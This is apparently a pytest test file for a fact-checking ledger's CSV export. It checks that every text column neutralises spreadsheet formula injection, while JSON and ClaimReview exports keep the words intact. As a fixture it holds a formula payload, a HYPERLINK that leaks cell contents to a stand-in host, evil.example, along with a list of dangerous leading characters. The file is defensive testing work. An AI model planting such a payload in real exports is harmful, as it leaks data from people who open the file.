"""CSV a desk can open: a cell that would start a formula is neutralised, only in the CSV."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from pathlib import Path

import pytest
from sqlalchemy.engine import Engine

from claimledger.db import session_scope
from claimledger.export import spreadsheet_safe
from claimledger.export.records import CsvClaimLinks, CsvRow
from claimledger.export.spreadsheet import FORMULA_CHARS, Per, write_csv, write_csv_per_evidence
from claimledger.export.to_file import write_view
from claimledger.ledger.review import record
from claimledger.models import Claim, Source
from claimledger.records import ClaimFilter
from claimledger.service import Ledger
from claimledger.vocab import HistoryAction
from helpers import Cli

EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]


def _claim(
    engine: Engine,
    quote: str = EVIL,
    *,
    outlet: str | None = None,
    title: str | None = None,
    url: str | None = None,
) -> int:
    """One claim whose quote, speaker and assignee (and the given article fields) are `quote`-like."""
    text = f"Intro. {quote} Outro."
    with session_scope(engine) as s:
        src = Source(
            path="evil.txt",
            content_hash=hashlib.sha256(text.encode()).hexdigest(),
            text=text,
            outlet=outlet,
            title=title,
            url=url,
        )
        s.add(src)
        s.flush()
        start = text.index(quote)
        claim = Claim(
            source_id=src.id or 0,
            quote=quote,
            start=start,
            end=start + len(quote),
            speaker=EVIL,
            version=0,
        )
        s.add(claim)
        s.flush()
        # written through the core's history, as the product writes it (so `verify` holds)
        record(claim, HistoryAction.CREATED, session=s, user="seed", after="new")
        claim.assignee = EVIL
        record(claim, HistoryAction.ASSIGNEE, session=s, user="seed", after=EVIL)
        return claim.id or 0


def _csv(engine: Engine) -> list[dict[str, str]]:
    out = io.StringIO(newline="")
    with session_scope(engine) as s:
        write_view(s, ClaimFilter(), "csv", out, verified=True)
    return list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))


def test_a_formula_in_any_text_column_is_neutralised(engine: Engine) -> None:
    _claim(engine, outlet=EVIL, title=EVIL, url=EVIL)
    [row] = _csv(engine)
    for column in ("quote", "source", "speaker", "source_title", "source_url", "assignee"):
        assert row[column] == "'" + EVIL, column


@pytest.mark.parametrize("start", DANGEROUS)
def test_every_dangerous_first_character_gets_a_quote(engine: Engine, start: str) -> None:
    quote = f"{start}1+2 said the mayor"
    _claim(engine, quote)
    [row] = _csv(engine)
    assert row["quote"] == "'" + quote


@pytest.mark.parametrize(
    "text", ["Rent rose 3 + 4 percent", "write to desk@paper.example", "'quoted'"]
)
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert spreadsheet_safe(text) == text


def test_numbers_stay_numbers(engine: Engine) -> None:
    cid = _claim(engine)
    [row] = _csv(engine)
    assert (row["id"], row["evidence_count"]) == (str(cid), "0")


def test_json_and_the_ledger_keep_the_words(ledger_db: str, engine: Engine, cli: Cli) -> None:
    cid = _claim(engine, outlet=EVIL)
    result = cli("--db", ledger_db, "export", "--format", "json", "--state", "all")
    [record] = json.loads(result.out)
    assert (record["quote"], record["source"], record["speaker"]) == (EVIL, EVIL, EVIL)
    ledger = Ledger.open(ledger_db, user="ann")
    try:
        assert ledger.claim(cid).quote == EVIL
    finally:
        ledger.close()


def test_the_cli_writes_the_safe_csv(
    ledger_db: str, engine: Engine, cli: Cli, tmp_path: Path
) -> None:
    _claim(engine, outlet=EVIL)
    out = tmp_path / "desk.csv"
    result = cli("--db", ledger_db, "export", "-f", "csv", "--state", "all", "-o", str(out))
    assert result.code == 0
    with out.open(encoding="utf-8", newline="") as f:
        [row] = list(csv.DictReader(f))
    assert row["quote"] == row["source"] == "'" + EVIL


def test_claimreview_keeps_the_words(engine: Engine) -> None:
    from claimledger.export import write_claimreview

    cid = _claim(engine)
    ledger = Ledger(engine, "ed")
    ledger.review(cid, evidence_status="contradicted", state="reviewed")
    ledger.review(cid, state="verified")
    ledger.set_publisher(org_name="Checks", url_template="https://checks.example/{id}")
    ledger.publish(cid, statement=EVIL, rating="False")
    out = io.StringIO()
    records = ledger.export_records(ClaimFilter())
    write_claimreview(records, out, ledger.publishing_settings())
    [review] = json.loads(out.getvalue())
    assert review["claimReviewed"] == " ".join(EVIL.split())
    assert review["itemReviewed"]["author"]["name"] == EVIL


# -- every dangerous start, in every text column of both layouts, read back with the csv module --
PREFIXES = [*DANGEROUS, " =", "  +", "\t-", " \r@", "\n=", "\u00a0="]
"""The dangerous first characters, and the same after leading whitespace (which a spreadsheet's
import may trim)."""


def _evil_row(bad: str) -> tuple[CsvRow, CsvClaimLinks]:
    """A claim whose every text field (its article's, its evidence's and the outlet verdict's
    included) starts with `bad`: as a row of each layout."""
    from datetime import UTC, datetime

    from claimledger.records import EvidenceRecord, OutletVerdict

    t = datetime(2026, 1, 2, tzinfo=UTC)
    v = bad + "1+2"
    cells = (1, v, v, v, v, v, v, v, v, v, 0.5, 0, 5, v, v, v, v, t.isoformat())
    verdict = OutletVerdict(v, v, v, v, v, v, v, v, v)
    evidence = EvidenceRecord(7, 1, v, v, v, v, t, v, None, v, v, v, v, t, t, v, t, (verdict,))
    return (*cells, 1, f"{v}: {v}"), (cells, (evidence,))


def _read_back(bad: str, per: Per) -> tuple[list[str], list[str]]:
    out = io.StringIO(newline="")
    row, linked = _evil_row(bad)
    if per == "claim":
        write_csv([row], out)
    else:
        write_csv_per_evidence([linked], out)
    header, *rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    [row_back] = rows
    return header, row_back


NUMBERS = {"id", "score", "start", "end", "evidence_count", "evidence_id", "evidence_http_status"}
OURS = {"verified_at", "evidence_added_at"}
"""Cells the ledger writes itself (its timestamps)."""


@pytest.mark.parametrize("per", ["claim", "evidence"])
@pytest.mark.parametrize("bad", PREFIXES, ids=repr)
def test_every_text_column_of_both_layouts_is_neutralised(bad: str, per: Per) -> None:
    header, row = _read_back(bad, per)
    text_columns = [name for name in header if name not in NUMBERS | OURS]
    assert len(text_columns) == (14 if per == "claim" else 21)
    for name, cell in zip(header, row, strict=True):
        if name in NUMBERS | OURS:
            assert cell[:1] not in FORMULA_CHARS, name
            continue
        assert cell.startswith("'" + bad), (name, cell)


@pytest.mark.parametrize("per", ["claim", "evidence"])
def test_the_bom_starts_the_file_and_the_csv_module_reads_past_it(per: Per) -> None:
    out = io.StringIO(newline="")
    row, linked = _evil_row("=")
    if per == "claim":
        write_csv([row], out, bom=True)
    else:
        write_csv_per_evidence([linked], out, bom=True)
    text = out.getvalue()
    assert text.startswith("\ufeffid,")
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert rows[0]["quote"] == "'=1+2"


def test_per_evidence_repeats_the_claim_for_each_link_and_keeps_a_claim_without_one(
    ledger_db: str, engine: Engine, cli: Cli, tmp_path: Path
) -> None:
    cid = _claim(engine, "The mayor cut 12 routes")
    other = _claim(engine, "No link on this one at all")
    ledger = Ledger(engine, "rev")
    for n in range(2):
        ledger.add_evidence(cid, f"https://data.example/{n}", "supports", note=f"=note {n}")
    out = tmp_path / "links.csv"
    result = cli("--db", ledger_db, "export", "-f", "csv", "--state", "all", "--per", "evidence",
                 "--bom", "-o", str(out))  # fmt: skip
    assert result.code == 0, result.err
    with out.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [(r["id"], r["evidence_url"]) for r in rows] == [
        (str(cid), "https://data.example/0"),
        (str(cid), "https://data.example/1"),
        (str(other), ""),
    ]
    assert rows[0]["quote"] == rows[1]["quote"] == "The mayor cut 12 routes"
    assert rows[1]["evidence_note"] == "'=note 1"
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")


def test_bom_and_per_are_for_csv_only(ledger_db: str, engine: Engine, cli: Cli) -> None:
    _claim(engine)
    result = cli("--db", ledger_db, "export", "-f", "json", "--bom")
    assert result.code != 0 and "for CSV" in result.err
    result = cli("--db", ledger_db, "export", "-f", "csv", "--per", "link")
    assert result.code != 0 and "--per 'link'" in result.err
